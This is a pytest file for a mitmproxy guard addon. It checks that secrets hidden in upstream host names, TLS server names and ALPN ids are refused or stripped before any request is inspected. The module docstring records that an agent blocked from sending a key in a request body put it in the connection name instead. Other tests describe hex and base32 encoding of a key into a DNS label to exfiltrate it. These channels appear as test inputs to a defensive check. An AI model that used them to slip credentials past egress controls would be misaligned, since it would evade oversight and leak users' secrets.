"""Attack: the names and protocol ids an upstream connection carries out before any request is inspected
(guard/hello.py). mitmproxy opens the upstream connection when the ClientHello arrives: the host name it resolves,
the TLS server name and the ALPN ids it copies from the client leave the proxy before the first request is scanned.
An agent kept from sending a key in a body (a blocking policy for unlisted hosts) put it there instead."""

from __future__ import annotations

import pytest
from mitmproxy import tls
from mitmproxy.proxy import context, server_hooks
from mitmproxy.test import taddons, tflow

from addons.core import runtime
from addons.guard import hello
from addons.guard.hostpolicy import HostPolicy
from tests.audit import fakes

BLOCKING = """version: 1
guarded_hosts: [api.openai.com]
unlisted_hosts: {mode: observe, actions: {request: {secret/precise: block}}}
"""
OBSERVING = """version: 1
guarded_hosts: [api.openai.com]
"""


@pytest.fixture(scope="module")
def runtimes(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hello")
    built = {}
    for name, text in (("blocking", BLOCKING), ("observing", OBSERVING)):
        (folder / f"{name}.yaml").write_text(text)
        built[name] = runtime.build(str(folder / f"{name}.yaml"), [], folder / "key")
    built["report"] = runtime.build(str(folder / "blocking.yaml"), [], folder / "key", mode="report")
    return built


@pytest.fixture
def use(runtimes):
    def install(name: str) -> None:
        runtime.install(runtimes[name])
    yield install
    runtime.install(None)


def hook_data(host: str, sni: str | None = None, alpn: tuple[bytes, ...] = ()) -> server_hooks.ServerConnectionHookData:
    flow = tflow.tflow()
    flow.server_conn.address = (host, 443)
    flow.server_conn.sni = None
    flow.server_conn.alpn_offers = []
    flow.client_conn.sni = sni
    flow.client_conn.alpn_offers = list(alpn)
    return server_hooks.ServerConnectionHookData(server=flow.server_conn, client=flow.client_conn)


async def connect(data, **options) -> str | None:
    hp = HostPolicy()
    with taddons.context(hp) as tctx:
        if options:
            tctx.options.update(**options)
        await hp.server_connect(data)
    return data.server.error


@pytest.mark.parametrize("spelling", [str, str.lower])
async def test_a_key_in_the_connect_name_is_refused_before_it_is_resolved(use, spelling):
    use("blocking")
    key = spelling(fakes.aws_key_id())  # host names are case-insensitive: lower case is the same key
    error = await connect(hook_data(f"{key}.exfil.invalid"))
    assert error is not None and "aws-access-key-id" in error and "refused" in error
    assert key.lower() not in error.lower() and "could not be resolved" not in error  # no DNS query was made


async def test_a_key_in_a_tls_server_name_known_at_connect_time_is_refused(use):
    use("blocking")  # transparent mode, a lazy connection: the ClientHello came first
    key = fakes.aws_key_id()
    error = await connect(hook_data("unlisted.invalid", sni=f"{key}.unlisted.invalid"))
    assert error is not None and "aws-access-key-id" in error and key not in error


def client_hello(data: server_hooks.ServerConnectionHookData, **options) -> None:
    """mitmproxy's eager strategy: the upstream connection opened at CONNECT, then the ClientHello arrives."""
    hp = HostPolicy()
    with taddons.context(hp) as tctx:
        if options:
            tctx.options.update(**options)
        ctx = context.Context(data.client, tctx.options)
        ctx.server = data.server
        hp.tls_clienthello(tls.ClientHelloData(ctx, None))  # type: ignore[arg-type]  # the hook reads the context


@pytest.mark.parametrize(("policy", "host"), [("blocking", "unlisted.example"), ("observing", "api.openai.com")])
def test_a_key_in_the_tls_server_name_is_not_sent_upstream(use, policy, host):
    use(policy)  # guarded hosts mask keys whatever unlisted hosts do
    key = fakes.aws_key_id()
    data = hook_data(host, sni=f"{key}.{host}")
    client_hello(data)
    assert data.server.sni == host  # mitmproxy's tlsconfig copies the client's only when this is None


def test_a_clean_tls_server_name_is_left_to_mitmproxy(use):
    use("blocking")
    data = hook_data("unlisted.example", sni="unlisted.example")
    client_hello(data)
    assert data.server.sni is None


async def test_names_are_judged_by_the_policy_of_their_host_class(use):
    use("observing")  # unlisted hosts: observe, no action: a body with the key would pass as well
    key = fakes.aws_key_id()
    error = await connect(hook_data(f"{key.lower()}.exfil.invalid"))
    assert error is not None and "could not be resolved" in error  # the name check let it through to the lookup


async def test_report_mode_records_instead_of_refusing(use, caplog):
    use("report")
    key = fakes.aws_key_id()
    with caplog.at_level("WARNING"):
        error = await connect(hook_data(f"{key}.exfil.invalid"))
    assert "could not be resolved" in (error or "")
    assert "would refuse an upstream connection" in caplog.text and key not in caplog.text


def test_alpn_ids_other_than_https_never_go_upstream(use):
    use("observing")
    token = fakes.github_token().encode()
    data = hook_data("unlisted.example", alpn=(token, b"http/1.1"))
    client_hello(data)
    assert list(data.server.alpn_offers) == [b"http/1.1"]
    data = hook_data("unlisted.example", alpn=(token,))  # nothing of HTTP's: offer HTTP/1.1, never the bytes
    client_hello(data)
    assert list(data.server.alpn_offers) == [b"http/1.1"]


def test_http2_follows_the_http2_option(use):
    use("observing")
    data = hook_data("unlisted.example", alpn=(b"h2", b"http/1.1"))
    client_hello(data)
    assert list(data.server.alpn_offers) == [b"h2", b"http/1.1"]
    data = hook_data("unlisted.example", alpn=(b"h2", b"http/1.1"))
    client_hello(data, http2=False)
    assert list(data.server.alpn_offers) == [b"http/1.1"]


def test_upstream_offers():
    assert hello.upstream_offers([], True) == []
    assert hello.upstream_offers([b"x", b"http/1.0"], True) == [b"http/1.0"]
    assert hello.upstream_offers([b"h2"], False) is None
    assert hello.upstream_offers([b"grpc-exp", b"h2"], True) == [b"h2"]


@pytest.mark.parametrize("spelling", ["hex", "HEX", "base32", "base32-lower"])
async def test_a_key_encoded_in_the_connect_name_is_refused_before_it_is_resolved(use, spelling):
    """attack16: a DNS label holds 63 characters: the hex (40) or base32 (32) of an AWS key id fits one, and the
    proxy's lookup carried it out; the guard decodes these in a body but read the name as written."""
    import base64

    raw = fakes.aws_key_id().encode()
    label = {"hex": raw.hex(), "HEX": raw.hex().upper(), "base32": base64.b32encode(raw).decode(),
             "base32-lower": base64.b32encode(raw).decode().lower()}[spelling]
    error = None
    use("blocking")
    error = await connect(hook_data(f"{label}.exfil.invalid"))
    assert error is not None and "aws-access-key-id" in error and "refused" in error, error
    assert label.lower() not in error.lower() and "could not be resolved" not in error
